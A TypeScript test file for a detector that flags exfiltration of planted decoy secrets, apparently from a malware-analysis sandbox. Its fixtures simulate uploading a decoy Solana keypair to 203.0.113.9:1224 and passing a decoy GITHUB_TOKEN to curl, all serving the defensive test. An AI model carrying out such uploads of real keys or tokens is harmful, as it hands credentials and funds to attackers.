import { ruleTest } from '../../testing/rule-tester.js';
import { CANARIES, exec, obs } from './_fixture.js';
import rule from './canary-exfiltration.js';

const post = (body: string) => ({ t: 1, type: 'tcp' as const, port: 1224, localAddress: '203.0.113.9', http: { requestLine: 'POST /keys HTTP/1.1', headers: ['Host: 203.0.113.9:1224'] }, body });

ruleTest(rule, {
  clean: [
    { name: 'posts unrelated data', observations: obs({ network: [post('{"hello":"world"}')] }) },
    { name: 'no network', observations: obs({ syscalls: [exec(['node', 'server.js'])] }) },
  ],
  flagged: [
    {
      name: 'posts id.json as a byte array',
      observations: obs({ network: [post(JSON.stringify([...Buffer.from(CANARIES[1]!.token)]))] }),
      findings: [{ line: 5, message: 'Uploaded the decoy Solana keypair (id.json) to 203.0.113.9:1224 POST /keys HTTP/1.1' }],
    },
    {
      name: 'env token on a command line',
      observations: obs({ syscalls: [exec(['curl', '-d', `t=${CANARIES[3]!.token}`, 'http://x'])] }),
      findings: [{ line: 5, message: 'Passed the decoy environment variable GITHUB_TOKEN to a program' }],
    },
  ],
});
